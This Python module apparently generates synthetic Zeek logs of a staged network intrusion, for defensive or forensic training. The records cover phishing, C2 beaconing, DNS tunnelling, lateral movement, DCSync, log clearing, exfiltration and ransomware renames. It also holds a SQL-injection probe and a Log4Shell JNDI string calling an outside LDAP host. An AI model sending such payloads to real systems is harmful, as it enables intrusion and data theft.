"""The intrusion as the network sees it, from the lure to the data that leave."""

import base64
from urllib.parse import unquote

from day.cast import (BROWSERS, COMMAND, DC, DOMAIN, DROP, FILES, GUESSER, PATIENT_ZERO, REALM,
                      SECOND_VICTIM, SHELL_AGENT, WEB, WORKSTATIONS, at)
from day.work import browse
from day.zeek import Sensor

def foothold(sensor):
    dice, victim = sensor.dice, PATIENT_ZERO
    lure = "invoice-portal.duckdns.org"
    sensor.dns(at(9, 12, 30.2), victim, lure, "A", [DROP])
    sensor.http(at(9, 12, 30.4), victim, DROP, lure, "/d/8841?u=m.keller", BROWSERS[0], length=2210)
    sensor.http(at(9, 12, 34.9), victim, DROP, lure, "/d/8841/Rechnung_2026-03.iso", BROWSERS[0],
                "application/x-iso9660-image", 1204224, filename="Rechnung_2026-03.iso",
                referrer=f"http://{lure}/d/8841?u=m.keller")
    sensor.http(at(9, 13, 5.1), victim, DROP, DROP, "/u/logo.png", SHELL_AGENT,
                "application/x-dosexec", 286720)
    sensor.dns(at(9, 13, 20.8), victim, "api.ipify.org", "A", ["203.0.113.110"])
    sensor.tls(at(9, 13, 21.0), victim, "203.0.113.110", "api.ipify.org", "TLSv13")
    subject = "CN=localhost,O=Internet Widgits Pty Ltd,ST=Some-State,C=AU"
    second = at(9, 14)
    while second < at(12, 30):
        sensor.tls(second, victim, COMMAND, None, "TLSv12", 8443, subject, subject,
                   "self signed certificate", dice.between(380, 420), dice.between(900, 960))
        second += 120 + dice.random() * 12
    second, chunk = at(9, 20), 0
    while chunk < 180:
        label = dice.text(40, "abcdefghijklmnopqrstuvwxyz234567")
        query = f"{label}.{chunk:04x}.t.cdn-sync.example"
        if chunk % 9 == 8:
            query = f"{label}.{dice.text(36, '0123456789abcdef')}.{chunk:04x}.t.cdn-sync.example"
        sensor.dns(second, victim, query, "TXT",
                   ["TXT 24 " + base64.b64encode(dice.text(16).encode()).decode()])
        chunk += 1
        second += dice.expo(25) if chunk % 30 else 600
    who = sensor.conn(at(9, 19, 2), victim, DROP, 53, "dns", 0.3, 91, 0, "udp")
    sensor.weird(at(9, 19, 2.1), who, "DNS_label_len_gt_pkt", "DNS")


def inside_moves(sensor):
    dice, victim, second_victim = sensor.dice, PATIENT_ZERO, SECOND_VICTIM
    for i in range(32):
        target = f"10.20.10.{20 + i}"
        alive = target in WORKSTATIONS
        sensor.conn(at(10, 2, i * 0.4), victim, target, 445, None,
                    0.001 if alive else None, state="RSTO" if alive else "S0")
    sensor.notice(at(10, 2, 11), "Scan::Address_Scan",
                  f"{victim} scanned at least 25 unique hosts on port 445/tcp in 0m10s",
                  sub="local", src=victim, p=445)
    for i, name in enumerate(("administrator", "admin", "backup", "sql", "svc-sql", "svc-backup",
                              "scanner", "helpdesk", "test", "service")):
        known = name == "administrator"
        sensor.kerberos(at(10, 5, i * 0.3), victim, "AS", name, f"krbtgt/{REALM}",
                        error="KDC_ERR_PREAUTH_REQUIRED" if known else
                        "KDC_ERR_C_PRINCIPAL_UNKNOWN")
    sensor.kerberos(at(10, 6), victim, "AS", "svc-print", f"krbtgt/{REALM}", "rc4-hmac")
    admin_share = f"\\\\{second_victim}\\ADMIN$"
    sensor.smb(at(10, 20), victim, second_victim, admin_share, [
        ("SMB::FILE_OPEN", "Temp\\svchelp32.exe", 0, None),
        ("SMB::FILE_OPEN", "Temp\\svchelp32.exe", 184320, None)], sent=201000)
    sensor.smb(at(10, 20, 4), victim, second_victim, f"\\\\{second_victim}\\IPC$", rpc=[
        ("\\pipe\\ntsvcs", "svcctl", op) for op in
        ("OpenSCManagerW", "CreateServiceW", "StartServiceW", "DeleteService",
         "CloseServiceHandle")])
    sensor.smb(at(10, 24), victim, second_victim, f"\\\\{second_victim}\\IPC$", rpc=[
        ("\\pipe\\winreg", "winreg", op) for op in
        ("OpenLocalMachine", "BaseRegOpenKey", "BaseRegSaveKey", "BaseRegCloseKey")])
    sensor.rpc(at(10, 48), second_victim, DC, 49667, [
        ("drsuapi", op) for op in ("DRSBind", "DRSCrackNames", "DRSGetNCChanges", "DRSUnbind")])
    sensor.smb(at(10, 57), second_victim, FILES, "\\\\fs01\\it", [
        ("SMB::FILE_OPEN", "Doku\\Passwörter IT.kdbx", 40960, None),
        ("SMB::FILE_OPEN", "home\\k.wolf\\.ssh\\id_ed25519", 411, None)])
    for i in range(18):
        sensor.smb(at(11, 2, i * 9), second_victim, FILES, "\\\\fs01\\daten", [
            ("SMB::FILE_OPEN", f"Konstruktion\\Rumpf {100 + i}\\gesamt.dwg",
             dice.between(2000000, 90000000), None)], received=dice.between(2000000, 90000000))
    sensor.smb(at(14, 31), victim, second_victim, f"\\\\{second_victim}\\IPC$", rpc=[
        ("\\pipe\\eventlog", "eventlog", "ElfrOpenELW"),
        ("\\pipe\\eventlog", "eventlog", "ElfrClearELFW")])


def web_server_falls(sensor):
    """The guessing on web01; auth.log tells the same minutes from inside."""
    site = f"shop.{DOMAIN}"
    probes = (("/.env", 404, None), ("/.git/config", 404, None), ("/backup.sql", 404, None),
              ("/login?id=1%27%20OR%201=1--", 403, "sqlmap/1.8.4#stable (https://sqlmap.org)"),
              ("/search?q=$%7Bjndi:ldap://192.0.2.66:1389/a%7D", 200, None),
              ("/.env.bak", 200, None))
    for i, (uri, status, agent) in enumerate(probes):
        # Zeek logs the address with its escapes resolved
        sensor.http(at(10, 55, i * 1.7), GUESSER, WEB, site, unquote(uri), agent or "curl/8.5.0",
                    "text/plain" if status == 200 else "text/html", 812, status=status)
    for i in range(40):
        sensor.ssh(at(11, 30, i * 15), GUESSER, WEB, "SSH-2.0-libssh_0.10.5", False, 4)
    sensor.notice(at(11, 37, 20), "SSH::Password_Guessing",
                  f"{GUESSER} appears to be guessing SSH passwords (seen in 30 connections).",
                  sub=f"Sampled servers:  {WEB}", src=GUESSER)
    sensor.ssh(at(11, 41, 3), GUESSER, WEB, "SSH-2.0-libssh_0.10.5", True, 4, duration=1910.4,
               sent=88000, received=240000)
    sensor.http(at(11, 46, 12), WEB, DROP, DROP, "/k/x86_64", "curl/7.88.1",
                "application/x-executable", 1420288)


def data_leaves(sensor):
    sensor.ssh(at(13, 10), SECOND_VICTIM, DROP, "SSH-2.0-PuTTY_Release_0.81", True, 1, port=443,
               sent=2417300112, received=7712331, duration=2911.7)
    for i, size in enumerate((48123904, 51201110, 9120331)):
        sensor.http(at(13, 12 + i * 4), PATIENT_ZERO, DROP, DROP, "/u.php", SHELL_AGENT,
                    "text/plain", 17, "POST", sent=size)


def branch_office(dice):
    """A second sensor, JSON: a small office whose staff only browse, but for one tunnel."""
    sensor = Sensor(dice)
    clients = tuple(f"10.30.5.{i}" for i in range(21, 29))
    for _ in range(120):
        browse(sensor, dice.office_time(), dice.pick(clients))
    sensor.dns(at(15, 2), clients[3], "4f1c-203-0-113-9.ngrok-free.app", "A", ["198.51.100.120"])
    sensor.tls(at(15, 2, 0.2), clients[3], "198.51.100.120", "4f1c-203-0-113-9.ngrok-free.app",
               "TLSv13", sent=912000, received=88000)
    for hour in (9, 10, 13):
        sensor.tls(at(hour, 14), clients[5], "203.0.113.8", "dns.google", "TLSv13")
    sensor.smb(at(16, 40), clients[3], "10.30.5.5", "\\\\nas05\\projekte", [
        ("SMB::FILE_RENAME", f"Lager\\Liste {i}.xlsx.locked", 0, f"Lager\\Liste {i}.xlsx")
        for i in range(1, 9)])
    return sensor
